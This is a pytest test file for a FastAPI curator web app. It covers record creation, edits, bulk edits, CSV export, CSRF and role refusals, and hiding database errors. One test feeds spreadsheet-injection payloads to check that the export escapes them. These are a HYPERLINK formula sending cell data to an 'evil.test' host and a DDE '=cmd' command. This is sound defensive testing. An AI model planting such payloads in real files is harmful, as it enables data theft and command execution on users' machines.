"""The selection records pages through FastAPI's TestClient on a real (fresh) harvest database,
the URL check against a loopback server: a curator creates (refused with the import's reason,
the URL check's 404 or 301 shown), edits, bulk-edits, moves and exports; a viewer sees the
records but every write is refused (403), as a form posted without the CSRF token is; the
history and the audit table hold the changes."""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from app.curator.actions import Role
from app.curator.webapp import create_app
from harvestflow import settings as settings_mod
from tests.support.signed_in import auth_for, page_token, serving, signed_in_client

pytestmark = [pytest.mark.services, pytest.mark.usefixtures("loopback_seeds")]

USERS = {"carol": Role.CURATOR, "victor": Role.VIEWER}


def _client(db_engine: sa.Engine, tmp_path: Path, user: str) -> TestClient:
    from harvest.bootstrap import ensure_reference_data

    ensure_reference_data(db_engine)
    return signed_in_client(db_engine, tmp_path, user, USERS)


def _fields(port: int, **changes: str) -> dict[str, str]:
    values = {
        "collection": "News",
        "title": "Front page",
        "seed_url": f"http://127.0.0.1:{port}/ok",
        "budget": "small",
        "frequency": "weekly",
        "depth": "page",
        "active": "yes",
        "theme": "politics",
    }
    values.update(changes)
    return values


def test_a_curator_creates_edits_bulk_edits_and_exports(
    db_engine: sa.Engine,
    tmp_path: Path,
    site: int,
) -> None:
    carol = _client(db_engine, tmp_path, "carol")
    token = page_token(carol.get("/records/new").text)
    post = {"csrf_token": token}

    gone = carol.post(
        "/records/new", data={**_fields(site, seed_url=f"http://127.0.0.1:{site}/gone"), **post}
    )
    assert gone.status_code == 400
    assert f"refused: http://127.0.0.1:{site}/gone: the server answered 404" in gone.text
    impossible = carol.post(
        "/records/new", data={**_fields(site, budget="large", frequency="daily"), **post}
    )
    assert impossible.status_code == 400 and "cannot be harvested daily" in impossible.text
    assert 'value="large"' in impossible.text  # the form comes back as typed

    made = carol.post("/records/new", data={**_fields(site), **post})
    assert made.status_code == 303, made.text
    first = int(made.headers["location"].split("/records/")[1].split("?")[0])
    moved = carol.post(
        "/records/new",
        data={**_fields(site, seed_url=f"http://127.0.0.1:{site}/moved", title="Moved"), **post},
    )
    second = int(moved.headers["location"].split("/records/")[1].split("?")[0])
    page = carol.get(f"/records/{second}").text
    assert f"redirects (301) to http://127.0.0.1:{site}/ok" in page

    edited = carol.post(f"/records/{first}", data={**_fields(site, title="Better"), **post})
    assert edited.status_code == 303
    bulk = carol.post(
        "/records/bulk",
        data={"ids": [str(first), str(second)], "frequency": "monthly", "deactivate": "yes",
              "op": "edit", "back": "?collection=News", **post},
    )  # fmt: skip
    assert bulk.status_code == 303
    assert bulk.headers["location"].startswith("/records?collection=News&done=2+changed")
    move = carol.post(
        "/records/bulk", data={"ids": str(second), "move_to": "Arts", "op": "move", **post}
    )
    assert move.status_code == 303

    listing = carol.get("/records", params={"collection": "News"}).text
    assert "Better" in listing and "Moved" not in listing
    exported = carol.get("/records/export.csv", params={"status": "inactive"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["title"], r["collection"], r["frequency"], r["active"]) for r in rows] == [
        ("Better", "News", "monthly", "no"),
        ("Moved", "Arts", "monthly", "no"),
    ]
    history = carol.get(f"/records/{first}").text
    assert re.search(r"carol</td><td>title</td><td>Front page</td><td>Better<", history)
    assert re.search(r"<td>carol</td><td>record\.bulk_edit</td>", history)  # the audit
    with db_engine.connect() as conn:
        audit = conn.execute(
            sa.text("SELECT username, action, target FROM audit_log ORDER BY audit_id")
        ).all()
    assert [tuple(a) for a in audit] == [
        ("carol", "record.create", f"record {first}"),
        ("carol", "record.create", f"record {second}"),
        ("carol", "record.edit", f"record {first}"),
        ("carol", "record.bulk_edit", f"record {first}"),
        ("carol", "record.bulk_edit", f"record {second}"),
        ("carol", "record.move", f"record {second}"),
    ]


def test_a_viewer_and_a_forged_form_cannot_write(
    db_engine: sa.Engine,
    tmp_path: Path,
    site: int,
) -> None:
    from app.curator.actions import csrf_token, load_key

    carol = _client(db_engine, tmp_path, "carol")
    token = page_token(carol.get("/records/new").text)
    made = carol.post("/records/new", data={**_fields(site), "csrf_token": token})
    record = made.headers["location"].split("?")[0]

    # another site's form: carol's browser sends her cookies, not the token
    for url, data in [
        ("/records/new", _fields(site, seed_url=f"http://127.0.0.1:{site}/a")),
        (record, _fields(site, title="forged")),
        ("/records/bulk", {"ids": record.rsplit("/", 1)[1], "deactivate": "yes", "op": "edit"}),
    ]:
        forged = carol.post(url, data=data)
        assert forged.status_code == 403 and "CSRF" in forged.text, url

    victor = _client(db_engine, tmp_path, "victor")
    page = victor.get(record)
    assert page.status_code == 200 and "Front page" in page.text
    assert 'id="record-form"' not in page.text and "needs the curator role" in page.text
    assert victor.get("/records").status_code == 200
    # even with a right token (made with the app's key), a viewer's write is refused
    token = csrf_token(load_key(tmp_path), victor.cookies["hf_csrf"], "victor")
    refused = victor.post(record, data={**_fields(site, title="viewer"), "csrf_token": token})
    assert refused.status_code == 403 and "this needs the curator role" in refused.text
    with db_engine.connect() as conn:
        titles = conn.execute(sa.text("SELECT title, active FROM selection_records")).all()
        writes = conn.execute(sa.text("SELECT count(*) FROM audit_log")).scalar_one()
    assert [tuple(t) for t in titles] == [("Front page", True)] and writes == 1


def test_saving_a_record_whose_seed_never_answers_does_not_hold_other_requests(
    db_engine: sa.Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The app served by uvicorn (one event loop, as in Airflow's api-server): while a record
    is saved whose seed's server accepts and never answers, another request is answered; the
    save ends when that server hangs up, refused as "not reachable"."""
    from harvest.bootstrap import ensure_reference_data

    ensure_reference_data(db_engine)
    monkeypatch.setenv("HARVESTFLOW_HARVEST__URL_CHECK_TIMEOUT_S", "600")  # the test ends it
    settings_mod.reset()
    silent = socket.create_server(("127.0.0.1", 0))
    port = silent.getsockname()[1]
    held: list[socket.socket] = []
    checking = threading.Event()

    def accept() -> None:
        conn, _ = silent.accept()
        held.append(conn)  # never answered
        checking.set()

    threading.Thread(target=accept, daemon=True).start()
    app = create_app(lambda: db_engine, data_dir=tmp_path, auth=auth_for(USERS))
    auth = {"Authorization": "Bearer carol"}
    saved: list[httpx.Response] = []
    with (
        serving(app) as base,
        httpx.Client(base_url=base, headers=auth, timeout=300) as carol,
        httpx.Client(base_url=base, headers=auth, timeout=300) as other,
    ):
        token = page_token(carol.get("/records/new").text)
        form = {**_fields(port, seed_url=f"http://127.0.0.1:{port}/"), "csrf_token": token}
        saver = threading.Thread(target=lambda: saved.append(carol.post("/records/new", data=form)))
        saver.start()
        try:
            assert checking.wait(120), "the URL check never connected"
            listing = other.get("/records")
            assert listing.status_code == 200
            # answered while the check still waits: the save has not been answered yet
            assert saver.is_alive() and not saved
        finally:
            for conn in held:
                conn.close()  # the seed's server hangs up: the check ends
            saver.join(120)
            silent.close()
    assert saved and saved[0].status_code == 400
    assert f"http://127.0.0.1:{port}/: not reachable" in saved[0].text


FORMULAS = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "keywords": "@SUM(1+1)",
    "content_notes": "-2+3",
    "technical_notes": "=cmd|' /C calc'!A0",
    "curator": "'=already quoted",
    "creator": "+1",  # a number: left as it is
}


def test_the_csv_export_escapes_formulas_and_the_import_reads_it_back_the_same(
    db_engine: sa.Engine,
    tmp_path: Path,
    site: int,
) -> None:
    from harvest.selection.importer import import_file

    carol = _client(db_engine, tmp_path, "carol")
    token = page_token(carol.get("/records/new").text)
    made = carol.post("/records/new", data={**_fields(site, **FORMULAS), "csrf_token": token})
    assert made.status_code == 303, made.text
    exported = carol.get("/records/export.csv")
    (row,) = csv.DictReader(io.StringIO(exported.text))
    for name, value in FORMULAS.items():
        shown = value if name == "creator" else "'" + value
        assert row[name] == shown, name  # a spreadsheet shows these as text
    assert not [(k, v) for k, v in row.items() if v[:1] in ("=", "@", "\t", "\r")]

    path = tmp_path / "export.csv"
    path.write_text(exported.text, encoding="utf-8")
    report = import_file(path, check_urls=False, engine=db_engine, user="carol")
    assert (report.unchanged, report.inserted, report.updated, report.errors) == (1, 0, 0, [])
    with db_engine.connect() as conn:
        stored = conn.execute(sa.text("SELECT * FROM selection_records")).mappings().one()
    assert stored["title"] == FORMULAS["title"] and stored["curator"] == FORMULAS["curator"]
    assert stored["keywords"] == [FORMULAS["keywords"]]


def test_a_conflict_is_refused_in_words_without_the_database_s(
    db_engine: sa.Engine,
    tmp_path: Path,
    site: int,
) -> None:
    carol = _client(db_engine, tmp_path, "carol")
    token = page_token(carol.get("/records/new").text)
    first = carol.post("/records/new", data={**_fields(site), "csrf_token": token})
    assert first.status_code == 303
    again = carol.post("/records/new", data={**_fields(site), "csrf_token": token})
    assert again.status_code == 400
    assert "its collection already has a record for this seed URL" in again.text
    for internal in ("selection_records_", "duplicate key", "constraint", "Key ("):
        assert internal not in again.text
